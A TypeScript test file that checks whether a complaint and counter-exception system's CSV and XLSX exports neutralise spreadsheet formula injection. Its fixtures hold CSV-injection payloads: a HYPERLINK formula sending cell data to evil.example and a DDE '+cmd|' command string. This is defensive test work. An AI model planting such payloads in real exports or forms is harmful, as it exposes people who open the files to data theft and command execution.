import ExcelJS from "exceljs";
import { afterAll, beforeAll, expect, it } from "vitest";
import { startTestApp, type TestApp, type TestClient } from "../../../test/app.ts";
import { describeEachEngine } from "../../../test/engines.ts";
import { complaintBody } from "../complaints/test-fixtures.ts";

/** What a spreadsheet program would run as a formula or a command at the start of a text cell (OWASP). */
const LIVE = /^[=+\-@\t\r]/;

const FORMULAS = {
  summary: '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
  name: "@SUM(A1:A9)",
  description: "+cmd|' /C calc'!A0 柜员录入错误",
  request: "要求赔偿",
};

/** The cells of an RFC 4180 CSV text, quotes removed. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g;
  for (const m of text.replace(/^\uFEFF/, "").matchAll(re)) {
    if (m[0] === "") break;
    const raw = m[1];
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
  }
  return cells;
}

async function xlsxCells(payload: Buffer) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(payload as unknown as ArrayBuffer);
  const cells: ExcelJS.Cell[] = [];
  for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

describeEachEngine("exports cannot carry spreadsheet formulas", (engine) => {
  let t: TestApp;
  let officer: TestClient;
  let head: TestClient;
  beforeAll(async () => {
    t = await startTestApp(engine);
    officer = await t.as("officer.sb01");
    head = await t.as("head.ot01");
    const lobby = await t.as("lobby.ot01");
    const complaint = await lobby.post(
      "/api/complaints",
      complaintBody({
        summary: FORMULAS.summary,
        complainant: { name: FORMULAS.name, phone: "13812345678" },
      }),
    );
    expect(complaint.statusCode, complaint.body).toBe(201);
    const teller = await t.as("teller.ot01");
    const exception = await teller.post("/api/counter-exceptions", {
      type: "transaction_data_error",
      description: FORMULAS.description,
      customer: { name: FORMULAS.name, phone: "13812345678" },
      immediateAction: "-1 暂停交易",
    });
    expect(exception.statusCode, exception.body).toBe(201);
  });
  afterAll(() => t.close());

  it("the complaint CSV writes every text cell starting with a formula character as text", async () => {
    const res = await officer.get("/api/complaints/export.csv");
    expect(res.statusCode).toBe(200);
    const cells = csvCells(res.body);
    expect(cells.filter((c) => LIVE.test(c))).toEqual([]);
    expect(cells).toContain(`'${FORMULAS.summary}`);
  });

  for (const url of ["/api/complaints/export.xlsx", "/api/counter-exceptions/export.xlsx"]) {
    it(`${url} holds no formula and no text a spreadsheet would read as one`, async () => {
      const res = await (url.includes("counter") ? head : officer).get(url);
      expect(res.statusCode).toBe(200);
      const cells = await xlsxCells(res.rawPayload);
      expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
      const texts = cells.map((c) => c.value).filter((v): v is string => typeof v === "string");
      expect(texts.filter((v) => LIVE.test(v))).toEqual([]);
      const expected = url.includes("counter") ? FORMULAS.description : FORMULAS.summary;
      expect(texts).toContain(`'${expected}`);
    });
  }
});
